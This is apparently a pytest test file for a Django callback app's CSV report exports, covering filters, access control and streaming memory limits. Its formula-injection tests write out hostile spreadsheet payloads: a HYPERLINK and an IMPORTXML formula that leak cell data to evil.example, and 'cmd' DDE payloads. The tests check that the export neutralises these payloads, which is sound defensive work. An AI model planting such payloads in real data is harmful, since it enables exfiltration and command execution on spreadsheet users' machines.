"""Reports: every callback as one CSV record (offers, calls, last agent and disposition linked), streamed in
bounded memory, for supervisors on their queues (here an Admin: every queue)."""

import csv
import io
import json
import tracemalloc
from datetime import timedelta

import pytest
from asgiref.sync import sync_to_async
from django.contrib.auth import get_user_model
from django.contrib.auth.models import Group
from django.test import AsyncClient
from django.utils import timezone

from callbacks import lifecycle, roles
from callbacks.enums import CallbackState
from callbacks.models import CallbackRequest, Offer
from callbacks.spreadsheet import safe_cell

from .factories import PASSWORD, make_api_client, make_callback, set_ready
from .test_public_pages import form

URL = "/reports/callbacks.csv"


def admin_user():
    roles.ensure_roles()
    user = get_user_model().objects.create_user("sup", "sup@example.com", PASSWORD, is_staff=True)
    user.groups.add(Group.objects.get(name=roles.ADMIN))
    return user


@pytest.fixture
def staff(client, transactional_db):
    admin_user()
    client.force_login(get_user_model().objects.get(username="sup"))
    return client


def rows_of(response) -> list[dict]:
    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))


def test_one_record_per_callback_links_its_offers_and_agent(staff, queue, alice):
    set_ready(alice)
    callback = make_callback(queue)
    interaction = lifecycle.do_accept_offer(user=alice.user, offer_id=Offer.objects.get(callback=callback).pk)
    lifecycle.do_mark_done(user=alice.user, interaction_id=interaction.pk)
    make_callback(queue, phone="+33612345999")
    response = staff.get(URL)
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    rows = {r["reference"]: r for r in rows_of(response)}
    done = rows[callback.reference]
    assert (done["state"], done["close_reason"], done["offers"], done["last_agent"]) == ("completed", "done", "1", "Alice")
    assert len(rows) == 2
    tomorrow = (timezone.localdate() + timedelta(days=1)).isoformat()  # the centre's day: right at midnight too
    assert rows_of(staff.get(URL, {"from": tomorrow})) == []


def test_agents_and_strangers_cannot_export(client, queue, alice):
    assert client.get(URL).status_code == 302  # to the login
    client.force_login(get_user_model().objects.get(username="alice"))
    assert client.get(URL).status_code == 403  # an agent is not a supervisor


def test_the_export_filters_by_the_agent_who_worked_the_callback(staff, queue, alice, bob):
    set_ready(alice)
    worked = make_callback(queue)
    lifecycle.do_accept_offer(user=alice.user, offer_id=Offer.objects.get(callback=worked).pk)
    make_callback(queue, phone="+33612345999")
    assert [r["reference"] for r in rows_of(staff.get(URL, {"agent": alice.pk}))] == [worked.reference]
    assert rows_of(staff.get(URL, {"agent": bob.pk})) == []
    assert staff.get(URL, {"agent": "x"}).status_code == 400


def test_a_bad_date_is_a_400(staff, queue):
    assert staff.get(URL, {"from": "yesterday"}).status_code == 400


def test_100000_callbacks_stream_in_bounded_memory(staff, queue):
    now = timezone.now()
    CallbackRequest.objects.bulk_create(
        [
            CallbackRequest(
                reference=f"CB-{i:08d}",
                queue=queue,
                phone_number=f"+3361{i % 10000000:07d}",
                customer_name=f"Customer {i}",
                state=CallbackState.COMPLETED,
                desired_time=now,
                created_at=now,
            )
            for i in range(100_000)
        ],
        batch_size=5000,
    )
    response = staff.get(URL)
    tracemalloc.start()
    size = lines = 0
    for chunk in response.streaming_content:
        size += len(chunk)
        lines += chunk.count(b"\n")
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert lines == 100_001
    print(f"\n100,000 callbacks: {size / 1e6:.1f} MB of CSV streamed with a peak of {peak / 1e6:.1f} MB allocated")
    assert peak < size / 4  # the whole file is never held


@pytest.mark.asyncio
async def test_under_asgi_the_export_is_an_async_stream(transactional_db, queue):
    """Daphne serves it through Django's ASGI handler: a sync iterator there would be read whole into memory."""
    user = await sync_to_async(admin_user)()
    await sync_to_async(make_callback)(queue)
    client = AsyncClient()
    await client.aforce_login(user)
    response = await client.get(URL)
    assert response.status_code == 200 and response.is_async
    body = b"".join([chunk async for chunk in response.streaming_content]).decode()
    assert body.count("\n") == 2 and "billing" in body


# --- Formula injection (OWASP "CSV Injection") ------------------------------------------------------------------------

RUNS_AS_FORMULA = ("=", "+", "-", "@", "\t", "\r")  # what Excel, LibreOffice and Google Sheets read as a formula


def cells_of(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode(), newline="")))


def assert_no_cell_runs(table: list[list[str]]) -> None:
    running = [cell for row in table for cell in row if cell.startswith(RUNS_AS_FORMULA)]
    assert running == [], f"cells a spreadsheet would run: {running}"


@pytest.mark.parametrize(
    "value, written",
    [
        ("=1+1", "'=1+1"),
        ("+33612345678", "'+33612345678"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Nina =1+1", "Nina =1+1"),
        ("", ""),
        (None, ""),
        (3, 3),
        (-4, -4),
    ],
)
def test_a_cell_a_spreadsheet_would_run_is_written_as_text(value, written):
    assert safe_cell(value) == written


def test_formula_payloads_from_every_customer_entry_arrive_as_text(staff, queue, client):
    """The customer's page, the REST API and GMS each take a name a customer typed; the export shows it, inert."""
    queue.gms_service = "billing-cb"
    queue.save()
    _, token = make_api_client()
    payloads = {
        "api": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "gms": "+cmd|' /C calc'!A0",
        "page": "@SUM(1+1)*cmd|' /C calc'!A0",
        "api-minus": "-2+3+cmd|' /C calc'!A0",
    }
    api = {"HTTP_AUTHORIZATION": f"Bearer {token}", "content_type": "application/json"}
    for key, phone in [("api", "+33612340001"), ("api-minus", "+33612340004")]:
        body = {"queue": "billing", "phone_number": phone, "customer_name": payloads[key]}
        assert client.post("/api/v1/callbacks", data=json.dumps(body), **api).status_code == 201
    gms = {"_customer_number": "+33612340002", "_customer_name": payloads["gms"]}
    assert client.post("/genesys/1/service/callback/billing-cb", data=json.dumps(gms), **api).status_code == 200
    assert client.post("/request/billing/", form(phone="+33612340003", name=payloads["page"])).status_code == 302
    assert sorted(CallbackRequest.objects.values_list("customer_name", flat=True)) == sorted(payloads.values())

    table = cells_of(staff.get(URL))
    assert_no_cell_runs(table)
    names = {row[table[0].index("customer_name")] for row in table[1:]}
    assert names == {"'" + name for name in payloads.values()}
    phones = {row[table[0].index("phone_number")] for row in table[1:]}
    assert phones == {"'+3361234000" + n for n in "1234"}  # read as text, not as the number 33612340001


def test_the_agent_activity_export_writes_an_agents_name_as_text(staff, queue, alice):
    alice.display_name = '=IMPORTXML(CONCAT("http://evil.example/?",A2),"//a")'
    alice.save()
    table = cells_of(staff.get("/reports/agents.csv"))
    assert_no_cell_runs(table)
    assert {row[0] for row in table[1:]} == {"'" + alice.display_name}


def test_the_reports_page_counts_callbacks_by_origin_and_dial_mode(staff, queue):
    """Callbacks created in the range, by where they were asked for and by their queue's dial mode (agent first or
    customer first), as the reports page shows them."""
    from callbacks.enums import DialMode, Origin

    from .factories import make_queue

    phoned = make_queue("phoned", dial_mode=DialMode.CUSTOMER_FIRST)
    make_callback(queue, phone="+33612345601", origin=Origin.IVR)
    make_callback(queue, phone="+33612345602", origin=Origin.WEB)
    make_callback(phoned, phone="+33612345603", origin=Origin.IVR)
    make_callback(phoned, phone="+33612345604", origin=Origin.IVR)
    page = staff.get("/reports/").content.decode()
    table = page.split('data-testid="by-origin"', 1)[1].split("</table>", 1)[0]
    assert '<th scope="col">Agent first</th><th scope="col">Customer first</th>' in table
    assert '<th scope="row">IVR</th><td>1</td><td>2</td><td>3</td>' in table, table
    assert '<th scope="row">Website</th><td>1</td><td>0</td><td>1</td>' in table, table
